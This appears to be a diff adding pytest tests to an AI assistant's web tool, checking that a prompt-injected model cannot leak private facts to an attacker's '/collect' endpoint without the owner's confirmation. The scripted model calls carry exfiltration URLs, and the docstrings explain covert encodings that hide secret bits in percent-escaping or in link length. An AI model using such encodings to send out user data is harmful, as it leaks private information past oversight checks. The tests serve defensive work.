@@ -196,3 +196,64 @@ async def test_http_posts_request_names_a_composed_url_and_not_a_copied_one(
     assert composed in first.preview
     assert second.preview is not None and "composed" not in second.preview  # the owner typed that one
     assert received == []
+
+
+
+@pytest.mark.parametrize("earlier_turn", [False, True])
+async def test_a_composed_url_stored_in_a_reminder_and_listed_back_is_still_composed(
+        web_app, fake_llm, channel, site, earlier_turn):
+    """A reminder made after the page carries the composed URL (message mode: stored without
+    asking). ``proactive_list`` then returns it in a result whose arguments do not hold it: Bruce's
+    own listing of what the model wrote must not make the URL "copied", in this turn or a later one."""
+    leak = site.url("/collect?leak=allergic-to-penicillin")
+    fake_llm.add(Step.tool_calls(("web_read_url", {"url": site.url("/page")})),
+                 Step.tool_calls(("proactive_create", {"execution_mode": "message", "in_seconds": 86400,
+                                                       "content": f"see {leak}"})))
+    if earlier_turn:
+        fake_llm.add(Step.text("Noted."))
+        await say(web_app, "what does my garden page say?")
+        fake_llm.add(Step.tool_calls(("web_search", {"query": "tomato care"})))
+    fake_llm.add(Step.tool_calls(("proactive_list", {})),
+                 Step.tool_calls(("web_read_url", {"url": leak})),  # CALL: "copied" from Bruce's own listing
+                 Step.text("I asked before opening that link."))
+    await say(web_app, "and what else?" if earlier_turn else "what does my garden page say?")
+    assert "/collect" not in site.paths  # the attacker's server saw nothing
+    assert [r.tool_name for _, r in channel.confirmations] == ["web.read_url"]
+
+
+@pytest.mark.parametrize("secret_bits", ["0110100001101001", "cut:1101"])
+async def test_a_link_from_the_page_respelled_to_carry_a_secret_waits_for_the_owner(
+        app_factory, fake_llm, channel, secret_bits):
+    """The page shows ``/collect?q=AAAA…``; the steered model writes each ``A`` as ``A`` or ``%41``
+    (one bit of a fact per letter), or cuts the link after as many letters as the number it
+    sends. Decoded, or as a piece, it is the page's link; as sent, it is the fact."""
+    server = LocalServer()
+    seen: list[str] = []
+
+    async def page(_request: web.Request) -> web.Response:
+        return web.Response(content_type="text/html", text=(
+            "<html><body><article><p>Part two of this long gardening article is at "
+            f"{server.url('/collect?q=' + 'A' * 16)} and tells you how to water tomatoes.</p>"
+            "</article></body></html>"))
+
+    async def collect(request: web.Request) -> web.Response:
+        seen.append(request.raw_path)
+        return web.Response(content_type="text/html", text="<html><body><p>ok</p></body></html>")
+
+    server.route("/page", page)
+    server.route("/collect", collect)
+    await server.start()
+    try:
+        app = await app_factory(tools={"web": {"allow_private": True}})
+        if secret_bits.startswith("cut:"):  # 13 letters of 16: the number is the length
+            respelled = "A" * int(secret_bits[4:], 2)
+        else:  # "hi", one bit per letter
+            respelled = "".join("%41" if bit == "1" else "A" for bit in secret_bits)
+        fake_llm.add(Step.tool_calls(("web_read_url", {"url": server.url("/page")})),
+                     Step.tool_calls(("web_read_url", {"url": server.url("/collect?q=" + respelled)})),  # CALL
+                     Step.text("I asked before opening that link."))
+        await say(app, "what does my garden page say?")
+    finally:
+        await server.stop()
+    assert seen == []  # the attacker's server never saw the bits
+    assert [r.tool_name for _, r in channel.confirmations] == ["web.read_url"]
